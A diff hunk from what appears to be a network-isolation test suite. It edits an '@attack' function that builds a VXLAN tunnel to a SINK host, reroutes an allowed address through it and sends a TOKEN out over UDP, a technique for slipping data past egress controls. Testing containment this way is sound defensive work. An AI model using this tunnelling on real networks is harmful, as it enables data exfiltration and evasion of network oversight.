@@ -102,13 +102,13 @@ def guest():
 
 @attack
 def tunnel():
-    """A device that wraps packets to the resolver in packets to another: the wrapper has no socket."""
+    """A device that wraps what is allowed in packets to another: the wrapper has no socket."""
     run("ip", "link", "add", "tunnel", "type", "vxlan", "id", "1", "remote", SINK, "dstport", str(PORT))
     run("ip", "link", "set", "tunnel", "up")
-    run("ip", "route", "add", RESOLVER[0], "dev", "tunnel", "src", POD_V4)
-    run("ip", "neigh", "add", RESOLVER[0], "lladdr", "02:00:00:00:00:02", "dev", "tunnel")
+    run("ip", "route", "add", WAYPOINT[0], "dev", "tunnel", "src", POD_V4)
+    run("ip", "neigh", "add", WAYPOINT[0], "lladdr", "02:00:00:00:00:02", "dev", "tunnel")
     try:
-        udp().sendto(TOKEN, RESOLVER)
+        udp().sendto(TOKEN, WAYPOINT)
     finally:
         run("ip", "link", "del", "tunnel")
     return "sent"
